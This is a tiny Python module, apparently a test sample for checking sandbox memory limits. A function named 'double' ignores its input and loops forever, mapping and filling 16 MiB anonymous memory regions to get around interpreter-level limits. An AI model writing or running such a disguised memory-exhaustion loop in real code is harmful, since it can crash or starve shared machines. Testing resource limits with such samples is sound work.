"""Takes memory from the kernel directly, past the interpreter."""

import mmap


def double(x):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**24, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        kept[-1].write(b"x" * 2**24)
